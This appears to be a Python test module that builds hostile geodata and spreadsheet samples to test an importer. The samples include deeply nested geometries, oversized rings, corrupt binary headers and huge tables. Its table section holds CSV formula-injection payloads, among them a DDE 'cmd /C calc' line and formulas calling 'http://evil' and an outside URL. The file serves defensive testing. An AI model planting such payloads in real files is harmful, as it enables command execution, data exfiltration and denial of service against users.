"""Geometry too deep, too long or impossible, in every format that writes it (T20), and hostile tables (T21)."""

from __future__ import annotations

import struct
from collections.abc import Iterator
from pathlib import Path

from tests.hostile.corpus.documents import zipped
from tests.hostile.trap import READ, Sample, Trap

SAMPLES = Path(__file__).resolve().parents[2] / "samples"
PLACED = {"crs": "EPSG:25832"}
_GML = '<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" xmlns:a="urn:a"><gml:featureMember><a:x><a:n>1</a:n><a:g>{}</a:g></a:x></gml:featureMember></gml:FeatureCollection>'
_KML = '<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{}</Document></kml>'


def deep_shapes(trap: Trap) -> Iterator[Sample]:
    """T20: collections in collections, rings of a million points, rings that touch themselves everywhere."""
    for depth in (100, 200_000):
        text = "GEOMETRYCOLLECTION(" * depth + "POINT(1 1)" + ")" * depth
        yield Sample("a.csv", f"id;wkt\n1;POINT(481000 5729000)\n2;{text}\n".encode(), wish=PLACED, what=f"{depth} collections")
    for depth in (20, 30_000):
        inner = '<gml:Point srsName="EPSG:25832"><gml:pos>481000 5729000</gml:pos></gml:Point>'
        members = "<gml:MultiGeometry><gml:geometryMember>" * depth + inner + "</gml:geometryMember></gml:MultiGeometry>" * depth
        yield Sample("a.gml", _GML.format(members).encode(), what=f"{depth} collections")
        point = "<Point><coordinates>8,51</coordinates></Point>"
        yield Sample(
            "a.kml",
            _KML.format("<Placemark>" + "<MultiGeometry>" * depth + point + "</MultiGeometry>" * depth + "</Placemark>").encode(),
            what=f"{depth} collections",
        )
        yield Sample(
            "a.kml",
            _KML.format("<Folder>" * depth + f"<Placemark>{point}</Placemark>" + "</Folder>" * depth).encode(),
            what=f"{depth} folders",
        )
    yield Sample(
        "a.kml",
        _KML.format(
            "<Folder>" * 101 + "<Placemark><Point><coordinates>8,51</coordinates></Point></Placemark>" + "</Folder>" * 101
        ).encode(),
        what="101 folders",
    )
    collection = '{"type":"GeometryCollection","geometries":[' * 500 + '{"type":"Point","coordinates":[8,51]}' + "]}" * 500
    yield Sample("a.geojson", _feature(collection), what="500 collections")
    yield Sample("a.geojson", _feature('{"type":"Polygon","coordinates":[[' + _spiral(300_000) + "]]}"), what="300,000 points")
    yield Sample("a.geojson", _feature('{"type":"Polygon","coordinates":[[' + _star(6001) + "]]}"), what="star")
    yield Sample(
        "a.geojson",
        _feature('{"type":"MultiPolygon","coordinates":[' + ",".join(["[[[8,51],[9,51],[9,52],[8,51]]]"] * 20_000) + "]}"),
        what="20,000 equal parts",
    )
    yield Sample("a.geojson", _feature('{"type":"LineString","coordinates":[[8,51]]}'), what="one point")
    yield Sample(
        "a.geojson",
        _feature('{"type":"Polygon","coordinates":[[[8,51],[1e308,-1e308],[-1e308,1e308],[8,51]]]}'),
        what="huge numbers",
    )
    wkb = b"\x01\x07\0\0\0\x01\0\0\0" * 200_000
    yield Sample("a.csv", b"id;wkb\n1;" + wkb[:500_000].hex().encode() + b"\n", wish=PLACED, what="WKB")
    shape = struct.pack("<ii4dii", 1, 5, 0, 0, 1, 1, 2**30, 2**30)
    head = struct.pack(">7i", 9994, 0, 0, 0, 0, 0, 1 << 20) + struct.pack("<2i8d", 1000, 5, *([0.0] * 8))
    yield Sample("a.shp", head + shape, wish=PLACED, what="parts")
    yield Sample(
        "a.zip",
        zipped({"a.shp": head + struct.pack(">2i", 1, 2**30) + shape, "a.shx": head, "a.dbf": b"\x03" + b"\xff" * 64}),
        wish=PLACED,
        what="lengths",
    )
    yield Sample("a.shp", b"\x00\x00\x27\x0a" + bytes(24) + b"\xe8\x03\x00\x00" + b"\xff" * 400, wish=PLACED)
    yield Sample("a.fgb", b"fgb\x03fgb\x00" + b"\xff" * 4000, what="noise")
    yield Sample("a.fgb", b"fgb\x03fgb\x00" + struct.pack("<I", 2**31) + bytes(200), what="length")
    yield Sample("a.osm.pbf", b"\x00\x00\x00\x0d\x0a\x09OSMHeader" + b"\xff" * 400, what="noise")
    yield Sample("a.osm.pbf", b"\x7f\xff\xff\xff" + b"\x0a\x09OSMHeader" + bytes(400), what="length")
    yield Sample("a.parquet", b"PAR1" + b"\xff" * 400 + b"\xff\xff\xff\x7fPAR1", what="length")
    ring = "".join(f'<nd ref="{number % 4 + 1}"/>' for number in range(100_000))
    osm = (SAMPLES / "osm" / "viertel.osm").read_text(encoding="utf-8")
    yield Sample(
        "a.osm",
        osm.replace("</osm>", f'<way id="99" version="1">{ring}<tag k="building" v="yes"/></way></osm>').encode(),
        what="long way",
    )
    loop = (
        '<relation id="98" version="1"><member type="relation" ref="98" role="outer"/><tag k="type" v="multipolygon"/></relation>'
    )
    yield Sample("a.osm", osm.replace("</osm>", f"{loop}</osm>").encode(), READ, what="relation of itself")


def _feature(geometry: str) -> bytes:
    return f'{{"type":"FeatureCollection","features":[{{"type":"Feature","properties":{{}},"geometry":{geometry}}}]}}'.encode()


def _spiral(count: int) -> str:
    """Return a ring of teeth, closed, valid."""
    teeth = [f"[{8 + number / count:.7f},{51 + 0.1 * (number % 2):.1f}]" for number in range(count)]
    return ",".join([*teeth, "[9,50]", "[8,50]", teeth[0]])


def _star(count: int) -> str:
    """Return a ring that crosses itself at every step."""
    from math import cos, pi, sin

    turn = 2 * pi * (count // 2) / count
    points = [f"[{8 + cos(turn * step):.9f},{51 + sin(turn * step):.9f}]" for step in range(count)]
    return ",".join([*points, points[0]])


def tables(trap: Trap) -> Iterator[Sample]:
    """T21: formulas, enormous cells, thousands of columns, NUL, other encodings."""
    formulas = [
        '=HYPERLINK("http://evil","x")',
        "@SUM(1)",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "\t=1",
        "\r=1",
        '=WEBSERVICE("' + trap.url + '")',
    ]
    rows = "".join(f'{number};481000;5729000;"{text.replace(chr(34), chr(34) * 2)}"\n' for number, text in enumerate(formulas))
    yield Sample("a.csv", f"id;x;y;name\n{rows}".encode(), READ, wish=PLACED, what="formulas")
    yield Sample("a.csv", f"id;x;y;name\n1;481000;5729000;{'x' * 10_000_000}\n".encode(), wish=PLACED, what="10 MB in a cell")
    yield Sample("a.csv", b'id;x;y;name\n1;481000;5729000;"' + b"x;\n" * 1_000_000, wish=PLACED, what="open quotes")
    yield Sample("a.csv", b"id;x;y\n1;481000;5729000\n2;4810\x0000;5729000\n", wish=PLACED, what="NUL")
    yield Sample("a.csv", b"id;x;y\n" + b"1;481000;5729000\n" * 9000 + b"\0" * 1000, wish=PLACED, what="NUL at the end")
    wide = ";".join(f"c{number}" for number in range(100_000))
    yield Sample("a.csv", f"{wide}\n{wide.replace('c', '')}\n".encode(), wish=PLACED, what="100,000 columns")
    yield Sample("a.csv", ("id;x;y\n" + ";".join(["1"] * 100_000) + "\n").encode(), wish=PLACED, what="100,000 cells")
    for encoding in ("utf-16", "utf-16-be", "utf-32", "utf-7", "cp1252"):
        yield Sample("a.csv", "id;x;y;name\n1;481000,5;5729000,5;Grünfläche\n".encode(encoding), wish=PLACED, what=encoding)
    yield Sample("a.csv", b"id;x;y\n1;1e999;nan\n2;-inf;inf\n3;" + b"9" * 5000 + b";1\n", wish=PLACED, what="no numbers")
    yield Sample("a.csv", b"x;x;x;x\n1;2;3;4\n", wish=PLACED, what="names twice")
    yield Sample("a.csv", b"geometry;geom;x;y\n1;2;3;4\n", wish=PLACED, what="names of our own")
    yield Sample("a.csv", b"\xff\xfe" + b"\x00\xd8" * 3000, wish=PLACED, what="half characters")
    for name, sheet, what in (
        (
            "a.xlsx",
            '<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c><c r="B1" t="inlineStr"><is><t>y</t></is></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
            "far cell",
        ),
        ("a.xlsx", '<row r="1"><c r="ZZZZZZZ99999999999"><v>1</v></c></row>', "no cell"),
        ("a.xlsx", '<row r="1"><c r="A1" t="s"><v>999999999</v></c><c r="B1" t="s"><v>-1</v></c></row>', "shared text"),
        ("a.xlsx", '<row r="1"><c r="A1" t="inlineStr"><is><t>' + "x" * 2_000_000 + "</t></is></c></row>", "long cell"),
    ):
        yield Sample(name, _workbook(sheet), wish=PLACED, what=what)
    repeated = (
        '<table:table table:name="a"><table:table-row table:number-rows-repeated="1048576">'
        '<table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"><text:p>1</text:p>'
        "</table:table-cell></table:table-row></table:table>"
    )
    yield Sample("a.ods", _open_document(repeated), wish=PLACED, what="repeated cells")


def _workbook(rows: str) -> bytes:
    import zipfile

    with zipfile.ZipFile(SAMPLES / "xlsx" / "baumkataster.xlsx") as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    name = "xl/worksheets/sheet1.xml"
    text = parts[name].decode()
    begin, end = text.index("<sheetData>") + 11, text.index("</sheetData>")
    head = text[:begin].replace('<dimension ref="', '<dimension ref="A1:XFD1048576" old="')
    return zipped({**parts, name: f"{head}{rows}{text[end:]}".encode()}, zipfile.ZIP_STORED)


def _open_document(table: str) -> bytes:
    import zipfile

    text = (
        '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
        f"<office:body><office:spreadsheet>{table}</office:spreadsheet></office:body></office:document-content>"
    )
    kind = b"application/vnd.oasis.opendocument.spreadsheet"
    return zipped({"mimetype": kind, "content.xml": text.encode()}, zipfile.ZIP_STORED)
